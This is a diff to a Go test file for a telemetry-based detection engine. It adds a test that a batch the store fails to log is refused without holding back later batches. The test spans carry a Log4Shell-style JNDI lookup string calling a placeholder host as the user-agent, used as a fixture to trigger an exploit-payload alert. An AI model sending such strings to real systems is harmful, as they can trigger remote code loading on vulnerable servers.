@@ -8,6 +8,7 @@ import (
 	"fmt"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -573,4 +574,48 @@ func TestGroupCommit(t *testing.T) {
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Errorf("order of application (-want +got):\n%s", diff)
 	}
+}
+
+// failingAppends fails the appends whose payload the test marks, as a
+// commit that failed: the batch is not logged.
+type failingAppends struct {
+	*memStore
+	fail atomic.Bool
+}
+
+func (s *failingAppends) SubmitBatch(ctx context.Context, kind store.BatchKind, payload []byte) func() (int64, error) {
+	if s.fail.Load() {
+		return func() (int64, error) { return 0, errors.New("disk full") }
+	}
+	return s.memStore.SubmitBatch(ctx, kind, payload)
+}
+
+// TestFailedAppend checks that a batch the store could not log is
+// refused and does not hold back the batches after it.
+func TestFailedAppend(t *testing.T) {
+	st := &failingAppends{memStore: &memStore{}}
+	rec := &recorder{}
+	e := newEngine(t, testConfig(), st, rec, nil)
+	start(t, e)
+	traces := e.TracesConsumer()
+	ctx := context.Background()
+	attack := func(svc string) []telemetry.Span {
+		s := shopSpans()[:1]
+		s[0].Service = svc
+		s[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
+		return s
+	}
+	st.fail.Store(true)
+	if err := traces.Consume(ctx, attack("lost")); err == nil || !strings.Contains(err.Error(), "disk full") {
+		t.Fatalf("Consume with a failing store = %v, want the store's error", err)
+	}
+	st.fail.Store(false)
+	if err := traces.Consume(ctx, attack("kept")); err != nil {
+		t.Fatal(err)
+	}
+	eventually(t, "the next batch applied", func() bool { return len(rec.of(detect.KindExploitPayload)) == 1 })
+	if a := rec.of(detect.KindExploitPayload)[0]; a.Service != "kept" {
+		t.Errorf("alert of %q, want only the logged batch's (kept)", a.Service)
+	}
+	eventually(t, "every slot free", func() bool { return len(e.slots) == 0 })
 }
